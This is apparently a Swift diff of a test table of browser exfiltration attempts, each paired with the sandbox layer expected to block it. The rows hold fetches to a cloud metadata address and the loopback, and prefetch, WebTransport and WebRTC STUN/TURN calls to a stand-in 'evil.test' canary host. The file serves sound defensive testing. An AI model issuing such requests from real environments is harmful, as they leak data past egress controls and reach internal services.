@@ -109,9 +109,12 @@ enum BrowserTable {
     request("fetch of the machine's metadata", "fetch('http://169.254.169.254/CANARY', {mode: 'no-cors'})"),
     request("fetch of the loopback", "fetch('http://127.0.0.1:19555/CANARY', {mode: 'no-cors'})"),
     request("prefetch", head("link", "rel: 'prefetch', href: 'http://evil.test/CANARY'")),
-    outside("dns-prefetch", head("link", "rel: 'dns-prefetch', href: '//CANARY.evil.test'"), .network),
+    outside(
+      "dns-prefetch", head("link", "rel: 'dns-prefetch', href: '//CANARY.evil.test'"), .network,
+      alone: .policy),
     outside("preconnect", head("link", "rel: 'preconnect', href: 'https://CANARY.evil.test'"), .policy),
-    outside("WebTransport", "await new WebTransport('https://CANARY.evil.test/').ready", .network),
+    outside(
+      "WebTransport", "await new WebTransport('https://CANARY.evil.test/').ready", .network, alone: .policy),
     Row(
       .externalUpload, "a file chosen with the debugging pipe's help",
       .script("const i = make('input'); i.type = 'file'; i.click()"), .event("Page.fileChooserOpened"),
@@ -129,8 +132,10 @@ enum BrowserTable {
     outside(name, script, .gateway)
   }
 
-  private static func outside(_ name: String, _ script: String, _ stop: BrowserStop) -> BrowserAttempt {
-    Row(.externalUpload, name, .script(script), .outside, stop)
+  private static func outside(
+    _ name: String, _ script: String, _ stop: BrowserStop, alone: BrowserStop? = nil
+  ) -> BrowserAttempt {
+    Row(.externalUpload, name, .script(script), .outside, stop, alone: alone)
   }
 
   private static func head(_ tag: String, _ fields: String) -> String {
@@ -140,14 +145,20 @@ enum BrowserTable {
   // MARK: Calls between browsers
 
   private static let calls: [BrowserAttempt] = [
-    outside("WebRTC, a STUN server", gathering("stun:CANARY.evil.test:3478"), .network),
-    outside("WebRTC, a TURN server by UDP", gathering("turn:CANARY.evil.test:3478?transport=udp"), .network),
-    outside("WebRTC, a TURN server by TCP", gathering("turn:CANARY.evil.test:80?transport=tcp"), .network),
-    outside("WebRTC, another browser by UDP", calling("udp 2122260223 198.51.100.7 3478 typ host"), .network),
-    outside(
-      "WebRTC, another browser by TCP",
-      calling("tcp 1518280447 198.51.100.7 19555 typ host tcptype passive"), .network),
+    call("a STUN server", gathering("stun:CANARY.evil.test:3478")),
+    call("a TURN server by UDP", gathering("turn:CANARY.evil.test:3478?transport=udp")),
+    call("a TURN server by TCP", gathering("turn:CANARY.evil.test:80?transport=tcp"), alone: .network),
+    call("another browser by UDP", calling("udp 2122260223 198.51.100.7 3478 typ host")),
+    call(
+      "another browser by TCP", calling("tcp 1518280447 198.51.100.7 19555 typ host tcptype passive"),
+      alone: .gateway),
   ]
+
+  /// The network stops it before the policy is asked. Alone, that keeps UDP in and leads TCP to its proxy; the look-up of a
+  /// server's name only the network stops.
+  private static func call(_ name: String, _ script: String, alone: BrowserStop = .policy) -> BrowserAttempt {
+    outside("WebRTC, \(name)", script, .network, alone: alone)
+  }
 
   /// Asks a server for the addresses at which this browser could be called.
   private static func gathering(_ server: String) -> String {
